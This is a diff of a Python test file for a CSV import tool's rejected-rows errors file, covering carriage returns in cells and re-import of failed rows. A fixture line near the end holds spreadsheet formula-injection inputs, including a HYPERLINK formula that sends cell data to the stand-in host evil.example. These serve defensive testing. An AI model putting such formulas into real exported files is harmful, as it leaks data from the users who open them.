@@ -73,6 +73,33 @@ def test_header_and_cells_and_reasons_are_harmless():
     ]
 
 
+@pytest.mark.parametrize(
+    ("raw", "cells"),
+    [
+        ("A,Alpha\r Field,1", ["A", "Alpha\r Field", "1"]),
+        ('A,"Al\rpha\r\n",1\rX', ["A", "Al\rpha\r\n", "1\rX"]),
+        ("\rA,\ue000,\r", ["\rA", "\ue000", "\r"]),
+        ("A,1\nB,2", ["A,1\nB,2"]),
+        ('A,"B\r', ['A,"B\r']),
+        ("", []),
+    ],
+)
+def test_all_of_a_row_is_in_its_cells(raw, cells):
+    (_, line) = read(b"".join(errors_csv(["a"], [RejectedRow(1, "reason", raw)])).decode())
+
+    assert [plain(cell) for cell in line[2:]] == cells
+
+
+def test_a_row_with_a_carriage_return_can_be_imported_as_the_errors_file_has_it(imports):
+    first = import_directly(imports, "code,city,runways\r\nAAA,Alpha\r Field,1\r\n")
+    assert first.counts == RowCounts(1, failed=1)
+
+    again = import_directly(imports, imports.errors(first.key))
+
+    assert again.counts == RowCounts(1, 1)
+    assert imports.place("AAA").name == "Alpha\r Field"
+
+
 FILE = 'code,city,runways,"=HYPERLINK(""http://evil.example/?x=""&A1,""ok"")"\r\n'
 FILE += 'A,"+81-3, Tokyo",1,=1+1\r\nBBB,fine,2,\r\nC,\'=2,-1,\r\n'
 
